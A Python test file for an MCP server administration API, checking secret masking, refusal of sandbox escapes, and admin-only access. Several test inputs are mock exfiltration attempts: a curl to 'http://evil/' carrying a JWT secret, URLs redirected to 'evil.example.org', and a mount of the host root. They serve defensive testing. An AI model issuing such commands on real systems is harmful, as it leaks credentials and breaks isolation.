"""MCP servers over HTTP: administrators see and change them; secrets never leave."""

from __future__ import annotations

import asyncio
import json
import sys
from collections.abc import Callable
from contextlib import AbstractAsyncContextManager
from pathlib import Path
from typing import Any

import pytest
from tests.app.gateway.conftest import Gateway
from tests.app.gateway.test_agents import opened  # noqa: F401 - a fixture
from tests.harness.mcp.conftest import on_host, start
from tests.harness.mcp.test_definitions import LISTING, tool

from deerflow.features.mcp.rows import McpPinRepository

pytestmark = pytest.mark.usefixtures("warm_programs")

__all__ = ["start"]

Open = Callable[..., AbstractAsyncContextManager[Gateway]]
MARK = "********"
REMOTE = {
    "enabled": False,
    "type": "http",
    "url": "https://someone:pass1234@mcp.example.org/mcp?api_key=abcdef&page=1",
    "headers": {"X-Anything": "topsecret", "Authorization": "Bearer ${TOKEN}"},
    "oauth": {"token_url": "https://auth.example.org/token", "client_id": "me", "client_secret": "hidden"},
    "own_key": {"kept": [1, 2]},
}
PROGRAM = {
    "enabled": False,
    "command": "server",
    "args": ["--token", "t0ken", "--api-key=k3y", "--verbose"],
    "env": {"PAT": "p4t", "FROM_ENVIRONMENT": "$HOME"},
}


def write(tmp_path: Path, **servers: Any) -> Path:
    file = tmp_path / "extensions_config.json"
    document = {"mcpServers": servers, "skills": {"x": {"enabled": False}}, "mcpInterceptors": "a:b", "mine": 1}
    file.write_text(json.dumps(document))
    return file


async def test_secrets_are_marks_and_marks_keep_them(opened: Open, tmp_path: Path) -> None:  # noqa: F811
    file = write(tmp_path, remote=REMOTE, program=PROGRAM)
    async with opened() as gateway:
        shown = (await gateway.admin.get("/api/mcp/config")).json()
        text = json.dumps(shown)
        for secret in ("pass1234", "abcdef", "topsecret", "hidden", "t0ken", "k3y", "p4t"):
            assert secret not in text
        remote, program = shown["mcp_servers"]["remote"], shown["mcp_servers"]["program"]
        assert remote["headers"] == {"X-Anything": MARK, "Authorization": "Bearer ${TOKEN}"}
        assert remote["oauth"]["client_id"] == "me"
        assert program["args"] == ["--token", MARK, f"--api-key={MARK}", "--verbose"]
        assert program["env"] == {"PAT": MARK, "FROM_ENVIRONMENT": "$HOME"}

        remote["description"] = "changed"
        changed = await gateway.admin.put("/api/mcp/config", json=shown)
        assert changed.status_code == 200
        assert changed.json()["mcp_servers"]["remote"]["description"] == "changed"
        written = json.loads(await asyncio.to_thread(file.read_text))
        assert {key: written["mcpServers"]["remote"][key] for key in REMOTE} == REMOTE
        assert {key: written["mcpServers"]["program"][key] for key in PROGRAM} == PROGRAM
        assert (written["skills"], written["mcpInterceptors"], written["mine"]) == ({"x": {"enabled": False}}, "a:b", 1)


async def test_a_mark_that_stands_for_nothing_is_refused(opened: Open, tmp_path: Path) -> None:  # noqa: F811
    write(tmp_path)
    async with opened() as gateway:
        entry = {"type": "http", "url": "https://example.org", "headers": {"Authorization": MARK}}
        answer = await gateway.admin.put("/api/mcp/config", json={"mcp_servers": {"new": entry}})
        assert answer.status_code == 422
        odd = await gateway.admin.put("/api/mcp/config", json={"mcp_servers": {"new": {"type": "pigeon"}}})
        assert odd.status_code == 422
        assert "pigeon" in odd.text


async def test_only_the_file_lets_a_program_out_of_its_sandbox(opened: Open, tmp_path: Path) -> None:  # noqa: F811
    write(tmp_path, trusted={**PROGRAM, "isolation": "host"})
    async with opened() as gateway:
        shown = (await gateway.admin.get("/api/mcp/config")).json()["mcp_servers"]
        attempts: list[dict[str, Any]] = [
            {"new": {"command": "sh", "isolation": "host"}},
            {"new": {"command": "sh", "network": "host"}},
            {"new": {"command": "sh", "mounts": [{"host_path": "/", "container_path": "/host"}]}},
            {"trusted": {**shown["trusted"], "command": "sh"}},
        ]
        for attempt in attempts:
            assert (await gateway.admin.put("/api/mcp/config", json={"mcp_servers": attempt})).status_code == 403, (
                attempt
            )
        same = {"trusted": {**shown["trusted"], "description": "still"}}
        assert (await gateway.admin.put("/api/mcp/config", json={"mcp_servers": same})).status_code == 200


async def test_state_tools_log_and_restart(opened: Open, tmp_path: Path) -> None:  # noqa: F811
    write(tmp_path, s=on_host(), off=PROGRAM)
    async with opened() as gateway:
        servers = {one["name"]: one for one in (await gateway.admin.get("/api/mcp/servers")).json()["servers"]}
        assert servers["off"]["state"] == "off"
        again = (await gateway.admin.post("/api/mcp/servers/s/restart")).json()
        assert again["state"] == "ready"
        echo = {"name": "echo", "description": "Says it again.", "read_only": True, "enabled": True, "policy": None}
        assert echo | {"called": "s_echo", "change": None, "note": ""} in again["tools"]
        assert (again["trusted"], again["changes"]) == (False, 0)
        assert again["connection"] is None
        assert "the server speaks to its log" in (await gateway.admin.get("/api/mcp/servers/s/log")).json()["lines"]
        assert (await gateway.admin.post("/api/mcp/servers/off/restart")).status_code == 404
        seen = (await gateway.user.get("/api/mcp/servers")).json()["servers"]
        assert [(one["name"], one["error"]) for one in seen] == [("s", "")]
        for forbidden in ("/api/mcp/config", "/api/mcp/servers/s/log"):
            assert (await gateway.user.get(forbidden)).status_code == 403
        assert (await gateway.user.post("/api/mcp/servers/s/restart")).status_code == 403


async def test_the_first_server_makes_the_file_where_it_will_be_found(opened: Open, tmp_path: Path) -> None:  # noqa: F811
    async with opened() as gateway:
        entry = {"enabled": False, "type": "http", "url": "https://example.org/mcp"}
        made = await gateway.admin.put("/api/mcp/config", json={"mcp_servers": {"new": entry}})
        assert made.status_code == 200 and list(made.json()["mcp_servers"]) == ["new"]
    file = tmp_path / "extensions_config.json"
    assert await asyncio.to_thread(lambda: file.stat().st_mode & 0o777) == 0o600


async def test_entries_as_others_write_them_work_in_the_file_and_over_http(
    opened: Open,  # noqa: F811
    start: Callable[..., str],
    tmp_path: Path,
) -> None:
    url = start("http")
    forms: dict[str, dict[str, Any]] = {
        "alone": {"url": url},
        "camel": {"serverUrl": url, "headers": {"X-Key": "topsecret"}},
        "transport": {"url": url, "transport": "streamable-http"},
        "kind": {"url": url, "type": "streamableHttp"},
        "off": {"serverUrl": url, "disabled": True},
    }
    file = write(tmp_path, **forms)
    async with opened() as gateway:
        shown = (await gateway.admin.get("/api/mcp/config")).json()["mcp_servers"]
        assert {(entry["type"], entry["url"], entry["enabled"]) for entry in shown.values()} == {
            ("http", url, True),
            ("http", url, False),
        }
        states = (await gateway.admin.get("/api/mcp/servers")).json()["servers"]
        assert {one["name"]: one["state"] for one in states if one["state"] == "ready"}.keys() == forms.keys() - {"off"}
        for name, entry in forms.items():
            if name != "off":
                tried = await gateway.admin.post("/api/mcp/test", json={"name": f"new-{name}", "entry": entry})
                assert tried.json()["state"] == "ready", name
        moved = {**shown["camel"], "serverUrl": "http://evil/mcp", "url": None}
        stolen = await gateway.admin.post("/api/mcp/test", json={"name": "camel", "entry": moved})
        assert stolen.status_code == 422 and "does not get the secrets" in stolen.text
        assert (await gateway.admin.put("/api/mcp/config", json={"mcp_servers": shown})).status_code == 200
    kept = json.loads(await asyncio.to_thread(file.read_text))["mcpServers"]["camel"]
    assert (kept["url"], kept["headers"]) == (url, {"X-Key": "topsecret"}) and "serverUrl" not in kept


async def test_a_server_is_tried_before_it_is_kept(opened: Open, start: Callable[..., str], tmp_path: Path) -> None:  # noqa: F811
    header = {"headers": {"X-Key": "topsecret"}}
    file = write(tmp_path, kept={"type": "http", "url": start("http"), **header}, s=on_host())
    before = await asyncio.to_thread(file.read_text)

    async with opened() as gateway:

        async def tried(name: str, **entry: Any) -> Any:
            return await gateway.admin.post("/api/mcp/test", json={"name": name, "entry": entry})

        shown = (await gateway.admin.get("/api/mcp/config")).json()["mcp_servers"]["kept"]
        for name, entry in (("kept", shown), ("new", {"type": "http", "url": shown["url"]})):
            found = (await tried(name, **entry)).json()
            assert found["state"] == "ready" and "echo" in {tool["name"] for tool in found["tools"]}
        boxed = (await tried("s", command="cat", args=["/nowhere"])).json()
        assert boxed["state"] == "failed" and "exit code 1" in boxed["error"]
        assert any("cat: /nowhere: No such file" in line for line in boxed["log"])
        closed = (await tried("new", type="http", url="http://127.0.0.1:9/mcp")).json()
        assert closed["state"] == "failed" and closed["error"] and closed["tools"] == []
        assert (await tried("s", **on_host())).json()["state"] == "ready", "beside the one that runs"
        states = {one["name"]: one["state"] for one in (await gateway.admin.get("/api/mcp/servers")).json()["servers"]}
        assert states == {"kept": "ready", "s": "ready"}

        for entry, status, words in (
            ({"type": "http"}, 422, "needs a url"),
            ({"type": "http", "url": "http://h", "headers": {"K": MARK}}, 422, "secret that is kept"),
            (on_host(), 403, "isolation"),
            ({"type": "http", "url": "http://h", "oauth": {}}, 422, "Each person connects"),
        ):
            refused = await tried("new", **entry)
            assert refused.status_code == status and words in refused.text, refused.text
        assert (await gateway.user.post("/api/mcp/test", json={"name": "x", "entry": {}})).status_code == 403
    assert await asyncio.to_thread(file.read_text) == before
    assert not await asyncio.to_thread(lambda: list(tmp_path.rglob("mcp/test-*"))), "homes of tests are gone"


async def test_what_is_said_of_a_tool_is_kept_and_a_misspelt_word_is_refused(opened: Open, tmp_path: Path) -> None:  # noqa: F811
    write(tmp_path, s=on_host())
    async with opened() as gateway:
        shown = (await gateway.admin.get("/api/mcp/config")).json()
        for tools in ({"echo": {"polcy": "deny"}}, {"echo": {"policy": "never"}}, {"echo": "deny"}):
            shown["mcp_servers"]["s"]["tools"] = tools
            refused = await gateway.admin.put("/api/mcp/config", json=shown)
            assert refused.status_code == 422 and "tools.echo" in refused.json()["detail"], refused.text
        shown["mcp_servers"]["s"]["tools"] = {"echo": {"policy": "deny"}, "fail": {"enabled": False}}
        assert (await gateway.admin.put("/api/mcp/config", json=shown)).status_code == 200
        (server,) = (await gateway.admin.get("/api/mcp/servers")).json()["servers"]
        tools = {tool["name"]: tool for tool in server["tools"]}
        assert (tools["echo"]["policy"], tools["fail"]["enabled"]) == ("deny", False)
        log = (await gateway.admin.get("/api/mcp/servers/s/log")).json()["lines"]
        assert log.count("the server speaks to its log") == 1, "the session goes on"


async def test_entries_over_http_reach_no_variable_that_the_operator_has_not_listed(
    with_runtime: Open, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    for name in ("TAVILY_API_KEY", "AUTH_JWT_SECRET", "WEATHER_TOKEN"):
        monkeypatch.setenv(name, "x" * 40)
    written = {"type": "http", "url": "http://h/mcp", "headers": {"X-Key": "${TAVILY_API_KEY}"}, "enabled": False}
    write(tmp_path, kept=written)
    async with with_runtime(mcp={"variables": ["WEATHER_TOKEN"]}) as gateway:
        oauth = {"token_url": "http://h/token", "client_id": "me"}
        http = {"type": "http", "url": "http://127.0.0.1:9/mcp"}
        for name, entry in (
            ("new", http | {"headers": {"X-Key": "${TAVILY_API_KEY}"}}),
            ("new", http | {"headers": {"X-Key": "Bearer ${AUTH_JWT_SECRET:-none}"}}),
            ("new", http | {"oauth": oauth | {"client_secret": "$AUTH_JWT_SECRET"}}),
            ("new", {"type": "http", "url": "http://127.0.0.1:9/${TAVILY_API_KEY}"}),
            ("new", {"command": "curl", "args": ["http://evil/${AUTH_JWT_SECRET}"]}),
            ("new", {"command": "sh", "env": {"A": "$TAVILY_API_KEY"}}),
            ("kept", written | {"url": "http://evil/mcp"}),
            ("kept", written | {"headers": {"X-Other": "${TAVILY_API_KEY}"}}),
        ):
            tried = await gateway.admin.post("/api/mcp/test", json={"name": name, "entry": entry})
            kept = await gateway.admin.put("/api/mcp/config", json={"mcp_servers": {name: entry}})
            for refused in (tried, kept):
                assert refused.status_code == 422, refused.text
                assert "mcp.variables" in refused.text and "x" * 40 not in refused.text
        listed = http | {"headers": {"X-Key": "${WEATHER_TOKEN}"}}
        tried = await gateway.admin.post("/api/mcp/test", json={"name": "new", "entry": listed})
        assert tried.status_code == 200 and tried.json()["state"] == "failed"
        same = {"kept": written | {"description": "as the file has it"}}
        assert (await gateway.admin.put("/api/mcp/config", json={"mcp_servers": same})).status_code == 200


async def test_a_kept_secret_goes_to_no_other_server(opened: Open, tmp_path: Path) -> None:  # noqa: F811
    write(tmp_path, remote=REMOTE, program=PROGRAM)
    async with opened() as gateway:
        shown = (await gateway.admin.get("/api/mcp/config")).json()["mcp_servers"]
        remote, program = shown["remote"], shown["program"]
        for name, entry in (
            ("remote", remote | {"url": "https://evil.example.org/mcp"}),
            ("remote", remote | {"oauth": remote["oauth"] | {"token_url": "https://evil.example.org/token"}}),
            ("remote", remote | {"oauth": remote["oauth"] | {"authorization_url": "https://evil.example.org/"}}),
            ("program", program | {"command": "curl"}),
            ("program", program | {"args": [*program["args"], "http://evil"]}),
            ("program", program | {"args": ["--evil", *program["args"][1:]]}),
        ):
            for answer in (
                await gateway.admin.post("/api/mcp/test", json={"name": name, "entry": entry}),
                await gateway.admin.put("/api/mcp/config", json={"mcp_servers": shown | {name: entry}}),
            ):
                assert answer.status_code == 422 and "does not get the secrets" in answer.text, answer.text
        without = remote | {"oauth": None}
        assert (
            await gateway.admin.put("/api/mcp/config", json={"mcp_servers": {"remote": without}})
        ).status_code == 200
        moved = remote | {"url": "https://new.example.org/mcp", "headers": {"X-Anything": "new"}, "oauth": None}
        assert (await gateway.admin.put("/api/mcp/config", json={"mcp_servers": {"remote": moved}})).status_code == 200


async def test_changed_tools_are_shown_to_administrators_and_accepted_as_they_were_seen(
    opened: Open,  # noqa: F811
    tmp_path: Path,
) -> None:
    file = tmp_path / "tools.json"
    entry = {"command": sys.executable, "args": [str(LISTING), str(file)], "isolation": "host"}
    write(tmp_path, shop=entry | {"tools": {"pay": {"policy": "allow"}}})

    async def lists(*tools: dict[str, Any]) -> Any:
        await asyncio.to_thread(file.write_text, json.dumps(tools))
        return (await gateway.admin.post("/api/mcp/servers/shop/restart")).json()

    await asyncio.to_thread(file.write_text, json.dumps([tool("pay")]))
    async with opened() as gateway:
        assert (await gateway.admin.get("/api/mcp/servers")).json()["servers"][0]["changes"] == 0
        state = await lists(tool("pay", "Cheaper.", readOnlyHint=True))
        assert (state["changes"], state["tools"][0]["change"]) == (1, "changed")
        path = "/api/mcp/servers/shop"
        (change,) = (await gateway.admin.get(f"{path}/changes")).json()["changes"]
        assert "Cheaper." in change["after"] and "Cheaper." not in change["before"]
        await lists(tool("pay", "Cheapest.", readOnlyHint=True), tool("refund"))
        for body, status in (({"digests": ["0" * 64]}, 409), ({}, 422)):
            assert (await gateway.admin.post(f"{path}/accept", json=body)).status_code == status
        waiting = (await gateway.admin.get(f"{path}/changes")).json()["changes"]
        assert [(one["tool"], one["change"]) for one in waiting] == [("pay", "changed"), ("refund", "new")]
        answer = await gateway.admin.post(f"{path}/accept", json={"digests": [waiting[0]["digest"]]})
        assert [one["tool"] for one in answer.json()["changes"]] == ["refund"]
        for refused in (await gateway.user.get(f"{path}/changes"), await gateway.user.post(f"{path}/accept", json={})):
            assert refused.status_code == 403
        assert (await gateway.admin.put("/api/mcp/config", json={"mcp_servers": {}})).status_code == 200
        assert await McpPinRepository(gateway.runtime.database).all() == [], "nothing is left for the next of this name"
